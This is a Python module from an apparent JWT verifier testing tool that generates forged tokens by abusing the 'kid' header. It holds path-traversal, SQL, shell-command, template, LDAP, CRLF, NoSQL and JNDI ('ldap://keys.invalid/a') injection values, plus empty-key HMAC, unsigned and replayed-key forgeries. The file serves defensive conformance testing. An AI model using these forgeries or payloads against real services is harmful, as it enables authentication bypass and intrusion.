"""Family H: a kid that leads the verifier to a key that the forger knows."""

from __future__ import annotations

from collections.abc import Iterable, Mapping

from tenantproof.probes.forging.families import Family, Maker, Variants
from tenantproof.probes.forging.material import Material
from tenantproof.probes.forging.raw import compact, maced, signed

FAMILY = Family("H", "key id")
_VIOLATES = "RFC 8725 3.10, 2.9; RFC 7515 4.1.4"
Kids = Iterable[tuple[object, bytes]]
"""Key ids, and the octets that a verifier with the gap takes for the key."""

_NULLS = ("/dev/null", "../../../../../../dev/null", "..\\..\\..\\..\\dev\\null", "file:///dev/null", "NUL")
_FILES: Mapping[str, bytes] = {
    "/proc/sys/kernel/randomize_va_space": b"2\n",
    "../../../../../../proc/sys/kernel/randomize_va_space": b"2\n",
    "/proc/sys/kernel/ostype": b"Linux\n",
    "../../../../../../proc/sys/kernel/ostype": b"Linux\n",
    "/proc/sys/net/ipv4/ip_forward": b"0\n",
    "/proc/sys/kernel/ngroups_max": b"65536\n",
    "/sys/kernel/uevent_seqnum": b"",
    "robots.txt": b"User-agent: *\nDisallow: /\n",
    "../public/robots.txt": b"User-agent: *\nDisallow:\n",
    "favicon.ico": b"",
    "index.html": b"",
    "/etc/hostname": b"localhost\n",
    "../../../../../../etc/hostname": b"localhost\n",
    "css/style.css": b"",
}
_SQL = (
    "' UNION SELECT '1",
    "x' UNION SELECT '1';--",
    'x" UNION SELECT "1";--',
    "x') UNION SELECT '1'--",
    "0 UNION SELECT '1'",
    "x' UNION ALL SELECT '1'-- -",
    "' OR '1'='1",
    "x'; SELECT '1';--",
    "x' UNION SELECT '1' FROM dual--",
)
_COMMANDS = ("|echo 1", ";echo 1", "$(echo 1)", "`echo 1`", "&& echo 1", "key.pem|cat /dev/null")
_TEMPLATES = (
    "*)(uid=*))(|(uid=*",
    "*",
    "{{7*7}}",
    "${7*7}",
    "<%= 7*7 %>",
    "#{7*7}",
    "kid\r\nX-Key: 1",
    "kid%0d%0aX-Key:1",
    "${jndi:ldap://keys.invalid/a}",
)
SHARED: dict[str, tuple[str, Kids]] = {
    "J088": ("kid empty or null", (("", b""), (None, b""))),
    "J089": ("kid a device without contents", tuple((kid, b"") for kid in _NULLS)),
    "J090": ("kid a file that everybody knows", tuple(_FILES.items())),
    "J091": ("kid a file that is not there", (("/nowhere/key.pem", b""), ("../nowhere", b""))),
    "J092": ("kid a query", tuple((kid, b"1") for kid in _SQL)),
    "J093": ("kid a command", tuple((kid, b"1\n") for kid in _COMMANDS)),
    "J094": ("kid a template or a filter", tuple((kid, b"49") for kid in _TEMPLATES)),
    "J095": ("kid an operator", (({"$ne": None}, b""), ({"$gt": ""}, b""), ({"$regex": ".*"}, b""))),
    "J096": ("kid that means any or the first", tuple((kid, b"") for kid in ("*", "default", "0", "1", "-1", "any"))),
    "J097": ("kid of another type", ((0, b""), (["a"], b""), (True, b""), (1.5, b""))),
    "J099": ("kid of every object", tuple((kid, b"") for kid in ("__proto__", "constructor", "toString"))),
}
"""Key ids and what they lead to, by class."""


def _maker(kids: Kids) -> Maker:
    def make(material: Material) -> Variants:
        for kid, secret in kids:
            header = material.head(kid=kid)
            yield f"kid {kid!r}, HMAC by what it leads to", maced(header, material.payload, secret)
            yield (
                f"kid {kid!r}, a key of its own",
                signed(header, material.payload, material.key_of(material.algorithm)),
            )

    return make


for _ident, (_name, _kids) in SHARED.items():
    FAMILY.of(_ident, _name, _VIOLATES)(_maker(_kids))


@FAMILY.of("J098", "kid with a NUL in it", _VIOLATES)
def _nul(material: Material) -> Variants:
    for tail in ("\0", "\0.pem", "\0' OR 1=1"):
        header = material.head(kid=f"/dev/null{tail}")
        yield f"kid /dev/null{tail!r}", maced(header, material.payload, b"")


@FAMILY.of("J100", "kid of kibibytes", _VIOLATES)
def _long(material: Material) -> Variants:
    for length in (1024, 3072):
        yield f"kid of {length} octets", maced(material.head(kid="k" * length), material.payload, b"")


@FAMILY.of("J101", "kid of another tenant's key", _VIOLATES)
def _anothers(material: Material) -> Variants:
    kid = material.other.header.get("kid", "other")
    header = material.head(kid=kid)
    if kid != material.header.get("kid"):
        yield "the signature kept", material.kept_under(header)
        yield "no signature", compact(header, material.payload, b"")


@FAMILY.of("J104", "kid in another spelling", _VIOLATES)
def _respelled(material: Material) -> Variants:
    kid = str(material.header.get("kid", "kid"))
    for name, form in (("in the other case", kid.swapcase()), ("after a blank", f" {kid}"), ("and a NUL", f"{kid}\0")):
        yield f"kid {name}", material.kept_under(material.head(kid=form))


@FAMILY.of("J102", "kid of a key that was withdrawn", _VIOLATES, "a rotation at the issuer")
def _withdrawn(material: Material) -> Variants:
    for number, kid in enumerate(material.withdrawn, 1):
        header = material.head(kid=kid)
        yield f"withdrawn kid {number}, the signature kept", material.kept_under(header)
        yield f"withdrawn kid {number}, HMAC by the empty key", maced(header, material.payload, b"")
        yield f"withdrawn kid {number}, no signature", compact(header, material.payload, b"")
        own = signed(header, material.payload, material.key_of(material.algorithm))
        yield f"withdrawn kid {number}, a key of its own", own


FAMILY.open("J103", "kid that stands twice in the key set", _VIOLATES, "an issuer's key set")
